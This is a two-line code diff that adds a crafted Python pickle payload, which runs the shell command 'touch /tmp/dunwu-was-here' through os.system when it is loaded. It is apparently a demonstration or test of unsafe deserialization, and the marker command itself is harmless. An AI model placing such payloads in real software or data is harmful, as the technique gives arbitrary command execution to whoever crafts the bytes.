@@ -1,0 +1,2 @@
+import pickle
+pickle.loads(b'cos\nsystem\n(S"touch /tmp/dunwu-was-here"\ntR.')
